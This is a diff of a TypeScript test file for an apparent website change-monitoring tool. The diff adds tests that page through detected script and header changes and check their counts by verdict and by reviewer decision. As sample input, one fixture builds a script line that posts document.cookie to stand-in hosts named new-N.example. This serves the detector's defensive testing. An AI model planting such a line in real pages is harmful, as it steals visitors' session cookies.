@@ -1,7 +1,9 @@
 // What an assessor reads of decisions and of incidents on several sites: nothing later, and nothing of sites that the link does not cover.
 import { randomUUID } from 'node:crypto'
 import type { Discovery } from '@tillwatch/core/alerts'
+import type { Capture } from '@tillwatch/core/capture'
 import { addChannelSchema, createAssessorLinkSchema } from '@tillwatch/core/contract'
+import { changeVerdicts } from '@tillwatch/core/shared'
 import { sql } from 'kysely'
 import { expect, it } from 'vitest'
 import { type AlertContext, addChannel, resolveIncident } from '#features/alerts/index.ts'
@@ -136,6 +138,53 @@ it('shows with a change the first decision on its script since then, up to the e
   expect(before.decisions).toEqual({})
 })
 
+it('counts all changes of the period by verdict and by decision, whichever part of them is shown', async () => {
+  const began = new Date().toISOString()
+  const posting = (at: number) => `${shop}\nfetch('https://new-${at}.example/', { method: 'POST', body: document.cookie })`
+  const headers = (value: string) => (capture: Capture) => {
+    for (const each of capture.documents) each.headers = [['x-frame-options', value]]
+  }
+  await comparedWith(shop)
+  await comparedWith(posting(1))
+  const decideAll = async (verdict: 'approve' | 'reject') => {
+    await new Promise((done) => setTimeout(done, 5))
+    await decideOn({ covers: 'scripts', scriptIds: (await list()).scripts.map(({ id }) => id) }, { verdict })
+    await new Promise((done) => setTimeout(done, 5))
+  }
+  await decideAll('approve')
+  await comparedWith(posting(2), { change: headers('SAMEORIGIN') })
+  await decideAll('reject')
+  await comparedWith(posting(3), { change: headers('SAMEORIGIN') })
+  const read = async (query: { after?: string; verdict?: 'malicious'; from?: string; to?: string } = {}) =>
+    readChanges(whole(), await reader(null), siteId, { limit: 1, from: began, to: soon(), ...query })
+  const parts = [await read()]
+  for (let next = parts[0]?.next; next; next = parts.at(-1)?.next) parts.push(await read({ after: next }))
+  expect(parts.length).toBeGreaterThan(2)
+  const [first] = parts
+  for (const { totals, total } of parts) expect({ totals, total }).toEqual({ totals: first?.totals, total: parts.length })
+  expect((await read({ verdict: 'malicious' })).totals).toEqual(first?.totals)
+
+  const all = parts.flatMap(({ comparisons, decisions }) =>
+    comparisons.flatMap(({ changes }) => changes.map((change) => ({ ...change, decided: decisions[change.id]?.verdict }))),
+  )
+  const count = (is: (change: (typeof all)[number]) => boolean) =>
+    all.filter((change) => change.verdict !== 'volatile' && is(change)).length
+  const counted = {
+    approve: count(({ decided }) => decided === 'approve'),
+    reject: count(({ decided }) => decided === 'reject'),
+    withdraw: 0,
+    undecided: count(({ script, decided }) => script !== null && decided === undefined),
+    'no-script': count(({ script }) => script === null),
+  }
+  expect([counted.approve, counted.reject, counted.undecided, counted['no-script']].every((some) => some > 0)).toBe(true)
+  expect(first?.totals).toEqual({
+    verdicts: Object.fromEntries(changeVerdicts.map((verdict) => [verdict, all.filter((change) => change.verdict === verdict).length])),
+    decisions: counted,
+    headers: count(({ kind }) => kind === 'header'),
+    unknown: parts.filter(({ comparisons }) => comparisons.some(({ notCompared }) => notCompared.length > 0)).length,
+  })
+})
+
 it('shows the headers of a page as they stood at a moment, with the decisions and changes of before', async () => {
   const now = async () => {
     await new Promise((done) => setTimeout(done, 5))
@@ -149,8 +198,9 @@ it('shows the headers of a page as they stood at a moment, with the decisions an
   await answer({ 'strict-transport-security': 'max-age=5' })
   const read = async (at?: string) => readHeaders(whole(), await reader([siteId]), pageId, { ...(at && { at }) })
   const told = async (at?: string) => {
-    const { observed, parts, history } = await read(at)
+    const { observed, parts, history, total, changes } = await read(at)
     const shown = parts.filter(({ header }) => header === 'strict-transport-security')
+    expect([total, changes]).toEqual([history.length, history.filter(({ isFirst }) => !isFirst).length])
     return [observed !== null, shown.map(({ value, state, decision }) => [value, state, decision?.verdict]), history.length]
   }
   expect(await told(before)).toEqual([false, [], 0])
